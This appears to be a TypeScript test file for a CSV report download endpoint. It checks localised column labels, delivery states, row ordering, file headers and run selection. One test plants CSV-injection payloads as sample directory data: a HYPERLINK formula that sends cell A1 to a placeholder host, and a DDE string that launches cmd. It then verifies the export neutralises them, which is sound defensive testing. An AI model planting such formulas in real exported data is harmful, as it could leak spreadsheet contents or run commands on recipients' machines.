import assert from 'node:assert/strict';
import { type Delivery, reasons } from '../../src/delivery/delivery.ts';
import type { Person } from '../../src/people/person.ts';
import { english, welsh } from '../product/in-the-chat.ts';
import { madeUpPerson } from '../product/made-up-people.ts';
import { type ApiUnderTest, startApi } from './api-under-test.ts';
import { rowsOf } from './csv-file.ts';
import { type Stored, sentAt, storeBroadcast, stored } from './stored.ts';

const duties = { leads: ['wessex'], roadmapOwner: false };
const author = madeUpPerson(9_001, { duties });
const welshOwner = madeUpPerson(9_002, { language: 'cy', duties: { leads: [], roadmapOwner: true } });

describe('the report as CSV', () => {
  let api: ApiUnderTest;

  before(async () => {
    api = await startApi({ callLimit: { burst: 10_000, perSecond: 1, callers: 10 } });
    for (const person of [author, welshOwner]) await api.services.people.create(person);
  });

  after(() => api.close());

  const download = async (id: string, as = author.id, query = '') => {
    const answer = await api.get(`/api/broadcasts/${id}/report.csv${query}`, await api.entra.token(as));
    assert.equal(answer.status, 200);
    return { answer, rows: rowsOf(new TextDecoder('utf-8', { ignoreBOM: true }).decode(await answer.bytes())) };
  };
  const store = async (people: readonly Person[], audience: readonly Stored[], changes = {}) => {
    for (const person of people) await api.services.people.create(person);
    return storeBroadcast(api.services, author.id, audience, changes);
  };

  it('says what became of everybody in plain words, in the language of the caller', async () => {
    const person = madeUpPerson(1, { name: 'Siân Ŵyn-Jones 李', area: 'cymru-wales', site: 'Yr Wyddgrug' });
    const failed = { state: 'failed', reason: 'no-answer', attempts: 12, uncertain: 2 } as const;
    const { id } = await store([person], [stored(person, failed)]);
    for (const [words, as] of [
      [english, author.id],
      [welsh, welshOwner.id],
    ] as const) {
      const { rows } = await download(id, as);
      assert.deepEqual(rows, [
        [
          'personId',
          'name',
          'area',
          'site',
          'role',
          'state',
          'reason',
          'attempts',
          'possiblyTwice',
          'lastChange',
          'nextAttempt',
        ].map((name) => words.t(`report.columns.${name}` as 'report.columns.name')),
        [
          person.id,
          'Siân Ŵyn-Jones 李',
          words.of(api.services.areas.find('cymru-wales')?.name ?? assert.fail()),
          'Yr Wyddgrug',
          words.t('role.legal'),
          words.t('progress.failed'),
          words.t('reasonOne.no-answer'),
          '12',
          words.t('answer.no'),
          '2026-11-24 09:05:00',
          '',
        ],
      ]);
    }
  });

  it('has words for every state and every reason, and counts as possibly twice what the card counts', async () => {
    const states: readonly (Partial<Delivery> | undefined)[] = [
      undefined,
      { state: 'planned', notBefore: '2026-07-01T08:00:00.500Z', attempts: 1 },
      { state: 'claimed' },
      { state: 'sent' },
      { state: 'sent', uncertain: 1 },
      { state: 'cancelled' },
      { state: 'skipped', reason: 'answered' },
      ...reasons.map((reason) => ({ state: 'unreachable', reason }) as const),
    ];
    const people = states.map((_, index) => madeUpPerson(100 + index));
    const { id } = await store(
      people,
      people.map((person, index) => stored(person, states[index])),
      { state: 'sending' },
    );
    const { rows } = await download(id);
    const column = (number: number) => rows.slice(1).map((row) => row[number]);
    assert.deepEqual(column(5), [
      ...['planned', 'planned'].map(() => english.t('progress.planned')),
      english.t('report.claimed'),
      ...['sent', 'sent'].map(() => english.t('progress.sent')),
      english.t('progress.cancelled'),
      english.t('progress.skipped'),
      ...reasons.map(() => english.t('progress.unreachable')),
    ]);
    assert.deepEqual(
      column(6).slice(-reasons.length),
      reasons.map((reason) => english.t(`reasonOne.${reason}`)),
    );
    assert.deepEqual(column(8).slice(0, 6), ['No', 'No', 'No', 'No', 'Yes', 'No']);
    assert.deepEqual(column(10).slice(0, 3), ['', '2026-07-01 09:00:00', '']);
    assert.deepEqual([column(7)[0], column(9)[0]], ['0', '']);
  });

  it('runs no formula that somebody hid in what the directory says', async () => {
    const formula = '=HYPERLINK("https://example.org?"&A1,"Click")';
    const person = madeUpPerson(200, { name: formula, site: "@SUM(1+1)*cmd|' /C calc'!A0", area: '+area' });
    const { id } = await store([person], [stored(person, {})]);
    const { rows } = await download(id);
    assert.deepEqual(rows[1]?.slice(1, 4), [`'${formula}`, "'+area", `'${person.site}`]);
    for (const cell of rows.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
  });

  it('has all of 1,000 people once, in the order of the plan, those too who have left the directory', async () => {
    const people = Array.from({ length: 1_000 }, (_, index) => madeUpPerson(1_000 + index));
    const { id } = await store(
      people.slice(0, -1),
      people.map((person, index) => stored(person, index % 7 === 0 ? undefined : {})),
    );
    const { rows } = await download(id);
    assert.deepEqual(
      rows.slice(1).map(([first]) => first),
      people.map((person) => person.id),
    );
    assert.deepEqual(
      rows.slice(1).map(([, name]) => name),
      [...people.slice(0, -1).map(({ name }) => name), ''],
    );
    assert.ok(rows.every((row) => row.length === 11));
  });

  it('is a file to be kept, and of no cache', async () => {
    const { id } = await store([], []);
    const { answer, rows } = await download(id);
    assert.equal(rows.length, 1);
    assert.equal(answer.headers.get('content-type'), 'text/csv; charset=utf-8');
    assert.equal(answer.headers.get('content-disposition'), `attachment; filename="report-${id}.csv"`);
    assert.equal(answer.headers.get('cache-control'), 'no-store');
    assert.equal(answer.headers.get('x-content-type-options'), 'nosniff');
  });

  it('is of another pass when that is asked for, if there was one', async () => {
    const person = madeUpPerson(300);
    const laterRuns = [{ id: 'remind-1', requestedBy: author.id, requestedAt: sentAt }];
    const { id } = await store([person], [stored(person, {})], { laterRuns });
    const { rows, answer } = await download(id, author.id, '?run=remind-1');
    assert.equal(rows[1]?.[5], english.t('progress.planned'));
    assert.match(answer.headers.get('content-disposition') ?? '', /-remind-1\.csv"$/);
    const token = await api.entra.token(author.id);
    for (const [run, status] of [
      ['recall', 404],
      ['remind-2', 404],
      ['REMIND', 400],
      ['', 400],
    ] as const) {
      assert.equal((await api.get(`/api/broadcasts/${id}/report.csv?run=${run}`, token)).status, status, run);
    }
  });
});
